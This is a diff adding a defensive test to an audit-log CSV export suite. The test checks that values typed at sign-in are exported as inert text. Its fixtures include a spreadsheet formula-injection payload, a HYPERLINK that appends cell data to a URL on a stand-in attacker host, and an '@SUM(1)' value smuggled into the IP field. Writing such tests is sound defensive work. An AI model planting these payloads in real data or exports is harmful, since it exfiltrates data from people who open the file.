@@ -38,3 +38,12 @@ it("refuses a bad filter at the boundary", () => {
   expect(auditFilterSchema.safeParse({ action: "drop table" }).success).toBe(false);
   expect(auditFilterSchema.safeParse({ from: "yesterday" }).success).toBe(false);
 });
+
+it("exports what anyone could have written (an email typed at sign-in) as text a spreadsheet never runs", async () => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+  await recordAuditEvent(db, { action: "auth.sign_in_failed", subjectType: "email", subjectId: formula, payload: { reason: "unknown_email" }, ip: "@SUM(1)" });
+  const rows = parse(await auditEventsCsv(db, auditFilterSchema.parse({ action: "auth.sign_in_failed" })), { columns: true }) as Record<string, string>[];
+  const row = rows.find((r) => r.subject_id!.includes("HYPERLINK"))!;
+  expect(row.subject_id).toBe(`'${formula}`);
+  expect(row.ip).toBe("'@SUM(1)");
+});
